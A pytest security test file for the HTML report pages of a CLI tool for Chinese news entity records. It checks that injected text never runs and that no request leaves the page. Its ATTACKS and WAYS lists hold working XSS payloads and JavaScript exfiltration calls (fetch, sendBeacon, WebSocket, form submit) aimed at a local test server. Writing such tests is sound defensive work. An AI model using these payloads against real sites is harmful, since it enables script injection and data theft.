"""Both kinds of page, of `view` and of `evaluate --html`, under attack: no text of theirs runs, and nothing leaves them."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest
from report_pages import record, view, write_records
from typer.testing import CliRunner

from cli.main import app

#: What would ask the server for something, or set window.hacked, if it was more than text.
ATTACKS = (
    "</script><script src='{server}/s'></script><script>window.hacked=1</script>",
    "<img src='{server}/i' onerror=window.hacked=1>",
    "<svg onload=window.hacked=1><image href='{server}/v'/></svg>",
    "<a href='javascript:window.hacked=1' id=bait>x</a>",
    "]]><![CDATA[<script>window.hacked=1</script>",
    "--><!--<script>window.hacked=1",
    "</style><style>@import '{server}/c';body{background:url({server}/b)}</style>",
    "</title></textarea><iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url={server}/r'><base href='{server}/'>",
    "<form action='{server}/f'><input autofocus onfocus=window.hacked=1>",
    "\u2028window.hacked=1//\u2029\u202e\u0000\x1b[2J",
    "__proto__",
    "constructor",
)
#: Ways of scripts to reach out, which no text has; the policy stops them all the same.
WAYS = (
    "fetch('{server}/1').catch(() => 0)",
    "navigator.sendBeacon('{server}/2')",
    "new Image().src = '{server}/3'",
    "new WebSocket('{server}/4'.replace('http', 'ws'))",
    "new EventSource('{server}/5')",
    "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: '{server}/6'}))",
    "document.body.append(Object.assign(document.createElement('iframe'), {src: '{server}/7'}))",
    "document.body.append(Object.assign(document.createElement('img'), {src: '{server}/8'}))",
    "Object.assign(document.body.appendChild(document.createElement('form')), {action: '{server}/9'}).submit()",
    "document.body.insertAdjacentHTML('beforeend', '<b onclick=window.hacked=1 id=bold>x</b>'); bold.click()",
    "document.body.setAttribute('onclick', 'window.hacked=1'); document.body.click()",
    "setTimeout('window.hacked=1', 0)",
)


@pytest.fixture
def server() -> Iterator[tuple[str, list[str]]]:
    """A server on this machine: its address, and the paths that it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None:
            pass

    listening = HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=listening.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{listening.server_port}", asked
    listening.shutdown()
    thread.join()


def make_view(folder: Path, texts: list[str]) -> Path:
    rows = []
    for text in texts:
        doc = f"{text}.txt"
        rows.append(
            record("article", 0, "题", doc=doc, sentence=None, title=text, bylines=[text], agency=text)
        )
        rows.append(record("person", 0, text, doc=doc, canonical=text, titles=[text], by=text))
        rows.append(record("program", 0, text, doc=doc, expansion=[text], kind=text))
        rows.append(record("statistic", 0, text, doc=doc, value=3, unit=text, indicator=text, source=text))
        rows.append(record("quote", 0, text, doc=doc, speaker=text, cue=text))
    assert view(write_records(folder / "f.jsonl", rows), "-o", folder / "page.html").exit_code == 0
    return folder / "page.html"


def make_errors(folder: Path, texts: list[str]) -> Path:
    gold = folder / "gold"
    gold.mkdir()
    for number, text in enumerate(texts):
        name = f"{number}{text.replace('/', '_').replace(chr(0), '')}"[:60]
        whole = f"县委书记李长河说：{text}，很好。" + "他来到东山村，看望群众。" * 200
        (gold / f"{name}.txt").write_text(whole.replace("\0", ""), encoding="utf-8")
        mention = {
            "type": "person",
            "start": 4,
            "end": 7,
            "text": "李长河",
            "titles": [text],
            "canonical": text,
        }
        (gold / f"{name}.gold.jsonl").write_text(json.dumps(mention) + "\n", encoding="utf-8")
    empty = write_records(folder / "e.jsonl", [])
    args = ["evaluate", gold, "--records", empty, "--html", folder / "page.html"]
    assert CliRunner().invoke(app, list(map(str, args))).exit_code == 0
    return folder / "page.html"


@pytest.mark.parametrize("make", [make_view, make_errors])
def test_no_text_is_run_and_nothing_leaves_the_page(
    browser: Any, tmp_path: Path, server: tuple[str, list[str]], make: Callable[[Path, list[str]], Path]
) -> None:
    address, asked = server
    path = make(tmp_path, [attack.replace("{server}", address) for attack in ATTACKS])
    page = browser.new_page()
    faults: list[str] = []
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.on("dialog", lambda dialog: faults.append(dialog.message))
    page.goto(path.as_uri())
    for key in ("1", "j", "2", "j", "3", "j"):
        page.keyboard.press(key)
    assert page.locator("#bait, iframe, object, svg image, base, meta[http-equiv=refresh]").count() == 0
    assert page.evaluate("window.hacked") is None
    assert page.url.startswith(path.as_uri())
    assert (faults, asked) == ([], [])


@pytest.mark.parametrize("make", [make_view, make_errors])
@pytest.mark.parametrize("way", WAYS)
def test_a_script_that_got_in_would_not_get_out(
    browser: Any,
    tmp_path: Path,
    server: tuple[str, list[str]],
    make: Callable[[Path, list[str]], Path],
    way: str,
) -> None:
    address, asked = server
    path = make(tmp_path, ["甲乙"])
    page = browser.new_page()
    page.goto(path.as_uri())
    page.evaluate(f"(() => {{ try {{ {way.replace('{server}', address)} }} catch (error) {{}} }})()")
    page.wait_for_timeout(150)
    assert page.evaluate("window.hacked") is None
    assert asked == []
    page.close()
